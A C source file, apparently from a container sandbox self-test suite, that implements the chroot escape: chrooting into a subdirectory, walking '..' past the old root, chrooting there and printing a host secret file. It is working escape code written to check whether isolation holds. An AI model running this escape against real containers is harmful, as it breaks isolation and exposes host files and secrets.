/* The chroot escape with CAP_SYS_CHROOT: chroot into a subdirectory
 * while keeping the working directory outside it, walk `..` up past the
 * old root, chroot(".") there (https://deepsec.net/docs/Slides/2015/Chw00t_How_To_Break%20Out_from_Various_Chroot_Solutions_-_Bucsay_Balazs.pdf).
 * A container root made with chroot (runc --no-pivot, the control here)
 * is escaped this way; pivot_root makes the old root unreachable. Reads
 * the runner's secret at its host path afterwards. */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int attack_chroot_escape(void) {
    const char *secret = need_env("SELFTEST_SECRET");
    mkdir("/tmp/selftest-jail", 0700);
    if (chdir("/") < 0)
        BLOCKED_ERRNO("chdir /");
    if (chroot("/tmp/selftest-jail") < 0)
        BLOCKED_ERRNO("chroot into a subdirectory");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            BLOCKED_ERRNO("chdir ..");
    if (chroot(".") < 0)
        BLOCKED_ERRNO("chroot(\".\") after the walk");
    int fd = open(secret, O_RDONLY);
    if (fd < 0)
        BLOCKED_ERRNO("open the host secret after the walk");
    char buf[256];
    if (read_all(fd, buf, sizeof buf) < 0)
        BLOCKED_ERRNO("read the secret");
    printf("LEAK %s\n", buf);
    WORKED("left the root by chroot and read a host file");
}
